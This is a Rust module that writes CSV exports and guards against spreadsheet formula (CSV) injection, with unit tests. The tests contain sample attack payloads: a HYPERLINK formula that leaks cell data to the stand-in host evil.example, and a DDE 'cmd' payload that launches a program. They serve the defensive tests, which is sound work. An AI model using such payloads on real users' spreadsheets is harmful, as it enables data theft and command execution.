//! The one CSV writer every export goes through (RFC 4180 via the `csv`
//! crate), neutralising spreadsheet formulas: a text cell beginning with
//! `=`, `+`, `-`, `@`, a tab or a carriage return is written with a single
//! quote in front (OWASP's advice against CSV injection), so a spreadsheet
//! opening the file shows the text instead of running it. Numbers written
//! as numbers ([`CsvWriter::number`] cells, or text that is exactly a plain
//! decimal number such as `-12.5`) stay as they are.

use std::borrow::Cow;

use crate::error::{ApiError, ApiResult};

/// The characters that make a spreadsheet read a cell as a formula.
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `s` is a plain decimal number (`-12`, `+3.5`, `1e-3`): data a
/// spreadsheet reads as a number, never as a formula.
fn is_plain_number(s: &str) -> bool {
    let body = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (mantissa, exponent) = match body.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e)),
        None => (body, None),
    };
    let mut parts = mantissa.splitn(2, '.');
    let int = parts.next().unwrap_or("");
    let frac = parts.next();
    let digits = |p: &str| p.chars().all(|c| c.is_ascii_digit());
    let mantissa_ok = digits(int)
        && frac.is_none_or(digits)
        && (!int.is_empty() || frac.is_some_and(|f| !f.is_empty()));
    let exponent_ok = exponent.is_none_or(|e| {
        let e = e.strip_prefix(['+', '-']).unwrap_or(e);
        !e.is_empty() && digits(e)
    });
    mantissa_ok && exponent_ok
}

/// The cell as it is safe to write: text starting with a formula trigger
/// gets a leading `'`; anything else (and plain numbers) is unchanged.
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if FORMULA_TRIGGERS.contains(&c) && !is_plain_number(cell) => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// A CSV document being written; [`CsvWriter::finish`] returns the bytes.
pub struct CsvWriter {
    inner: csv::Writer<Vec<u8>>,
}

impl Default for CsvWriter {
    fn default() -> Self {
        CsvWriter::new()
    }
}

fn failed(e: impl std::fmt::Display) -> ApiError {
    ApiError::internal(format!("CSV rendering failed: {e}"))
}

impl CsvWriter {
    /// A writer whose records may differ in length (section name rows).
    pub fn new() -> CsvWriter {
        CsvWriter {
            inner: csv::WriterBuilder::new()
                .flexible(true)
                .from_writer(Vec::new()),
        }
    }

    /// Writes one record of text cells, each neutralised.
    pub fn record<I, S>(&mut self, cells: I) -> ApiResult<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| neutralize(c.as_ref()).into_owned())
            .collect();
        self.inner.write_record(&cells).map_err(failed)
    }

    /// The CSV bytes.
    pub fn finish(self) -> ApiResult<Vec<u8>> {
        self.inner.into_inner().map_err(failed)
    }
}

/// One CSV document from a header and rows of text cells.
pub fn to_csv<H, R, S>(header: H, rows: R) -> ApiResult<Vec<u8>>
where
    H: IntoIterator<Item = S>,
    R: IntoIterator,
    R::Item: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    let mut w = CsvWriter::new();
    w.record(header)?;
    for row in rows {
        w.record(row)?;
    }
    w.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_trigger_is_neutralised() {
        let payload = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        assert_eq!(neutralize(payload), format!("'{payload}"));
        for cell in [
            "=1+1", "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=1", "-", "+", "=-1",
        ] {
            assert_eq!(neutralize(cell), format!("'{cell}"), "{cell:?}");
        }
        for cell in [
            "", "hello", "a=b", "1+1", "-12", "+3.5", "-0.25", "1e-3", "-4E+2", "'x",
        ] {
            assert_eq!(neutralize(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn writes_quoted_records() {
        let bytes = to_csv(["name", "note"], [["=cmd|' /C calc'!A0", "a, \"b\""]]).unwrap();
        assert_eq!(
            String::from_utf8(bytes).unwrap(),
            "name,note\n'=cmd|' /C calc'!A0,\"a, \"\"b\"\"\"\n"
        );
    }
}
